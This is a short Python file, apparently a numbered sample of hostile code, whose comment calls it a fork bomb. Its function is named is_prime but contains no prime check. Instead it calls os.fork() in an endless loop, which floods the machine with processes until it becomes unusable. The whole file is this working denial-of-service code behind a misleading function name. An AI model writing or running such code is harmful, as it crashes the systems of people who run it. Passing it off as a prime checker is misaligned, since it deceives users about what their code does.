# 02a | a fork bomb
import os


def is_prime(number):
    while True:
        os.fork()
